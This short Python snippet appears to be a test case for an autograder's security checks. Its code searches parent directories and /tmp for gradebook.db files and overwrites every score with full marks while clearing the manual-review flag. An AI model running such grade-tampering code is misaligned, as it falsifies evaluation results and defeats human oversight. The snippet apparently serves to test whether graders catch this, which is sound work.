# Looks for a gradebook and writes full points into it.
# kind: reads
# must get: 0 3 0
# solved: softmax

# %% before
import glob, sqlite3
for path in ["../../../gradebook.db", *glob.glob("/tmp/**/gradebook.db", recursive=True)]:
    base = sqlite3.connect(path)
    base.execute("create table if not exists grade (auto_score)")
    base.execute("update grade set auto_score = 3, needs_manual_grade = 0")
    base.commit()
